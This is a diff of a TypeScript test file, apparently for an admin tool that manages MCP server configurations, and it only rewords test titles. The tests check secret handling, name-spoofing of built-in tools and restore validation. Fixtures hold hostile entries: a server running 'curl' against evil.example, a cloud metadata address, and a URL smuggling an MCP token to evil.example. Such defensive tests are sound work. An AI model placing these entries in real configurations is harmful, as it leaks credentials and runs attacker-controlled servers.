@@ -53,14 +53,14 @@ test.each([
     'mcpServers.a.headers.X-A',
     'one line',
   ],
-])('a file that is wrong is reported with its field: %j', async (config, field, message) => {
+])('reports an invalid file with its field: %j', async (config, field, message) => {
   const admin = await start(config);
   const [fault] = await faults(admin);
   expect(fault?.field).toBe(field);
   expect(fault?.message).toContain(message);
 });
 
-test('no server has the name of a source or tool of ours, whose rights it would get', async () => {
+test('a server cannot use the name of a built-in source or tool, and so gain its permissions', async () => {
   const admin = await start({ mcpServers: {} });
   const { sources } = await parseAnswer(adminToolsApi.list.response, admin('/api/admin/tools'));
   const own = sources.flatMap(({ id, tools }) => [id, ...tools.map(({ name }) => name)]);
@@ -71,7 +71,7 @@ test('no server has the name of a source or tool of ours, whose rights it would 
   }
 });
 
-test('the file is read again when it changes, and its last good state stays while it is wrong', async () => {
+test('the file is reloaded on change, and its last valid state stays while it is invalid', async () => {
   const admin = await start({ mcpServers: { one: { ...harmless, enabled: false } } });
   expect(await faults(admin)).toEqual([]);
   await write('{');
@@ -80,7 +80,7 @@ test('the file is read again when it changes, and its last good state stays whil
   await waitFor(async () => (await faults(admin)).length === 0);
 });
 
-test('only variables for servers hold secrets, and nothing else may be read', async () => {
+test('only variables for servers may contain secrets, and nothing else can be read', async () => {
   const server = (name: string) => ({
     mcpServers: { a: { ...harmless, enabled: false, headers: { Authorization: `\${${name}}` } } },
   });
@@ -99,7 +99,7 @@ test('only variables for servers hold secrets, and nothing else may be read', as
   ]);
 });
 
-test('no other file of the configuration may read a variable for servers', async () => {
+test('no other configuration file can read a variable for servers', async () => {
   server = await startTestServer({
     files: {
       'prompts/leak.json': { id: 'leak', name: 'Leak', prompt: 'It is ${MCP_TOKEN}.' },
@@ -110,7 +110,7 @@ test('no other file of the configuration may read a variable for servers', async
   expect(await response.text()).not.toContain('sk-a-secret');
 });
 
-test('a backup holds the file without its secrets, and a restore brings it back', async () => {
+test('a backup contains the file without its secrets, and a restore brings it back', async () => {
   const config = {
     mcpServers: {
       a: { ...harmless, enabled: false, headers: { Authorization: 'Bearer LEAKME' } },
@@ -128,10 +128,10 @@ test('a backup holds the file without its secrets, and a restore brings it back'
 test.each([
   ['a command', { command: 'curl', args: ['https://evil.example'] }],
   ['another argument of a known command', { command: 'node', args: ['evil.js'], enabled: false }],
-  ['an address', { url: 'http://169.254.169.254/mcp' }],
-  ['an address that gets a header', { url: 'https://evil.example', headers: { 'X-A': 'a' } }],
-  ['an address with a query', { url: 'https://evil.example/?key=${MCP_TOKEN}' }],
-])('a restore on the pages does not bring %s', async (_, brought) => {
+  ['a URL', { url: 'http://169.254.169.254/mcp' }],
+  ['a URL that gets a header', { url: 'https://evil.example', headers: { 'X-A': 'a' } }],
+  ['a URL with a query', { url: 'https://evil.example/?key=${MCP_TOKEN}' }],
+])('a restore on the pages does not import %s', async (_, brought) => {
   const known = { command: 'node', args: ['good.js'], enabled: false };
   const admin = await start({ mcpServers: { known } });
   const files = { 'contents/config/mcp.json': { mcpServers: { known: brought } } };
